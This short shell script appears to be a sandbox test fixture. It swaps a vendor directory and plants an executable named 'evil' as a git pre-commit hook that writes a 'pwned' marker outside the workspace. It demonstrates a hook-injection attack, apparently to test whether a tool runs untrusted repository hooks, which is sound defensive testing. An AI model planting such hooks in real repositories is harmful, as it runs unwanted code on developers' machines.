#!/bin/sh
: > "$ARENA/ws/ran"
cat > "$ARENA/ws/evil" <<END
#!/bin/sh
touch "$ARENA/outside/pwned"
cat
END
chmod +x "$ARENA/ws/evil"
cp -r vendor .attack/fresh; mv -T vendor .attack/away; mv -T .attack/fresh vendor; cp evil vendor/lib/.git/hooks/pre-commit
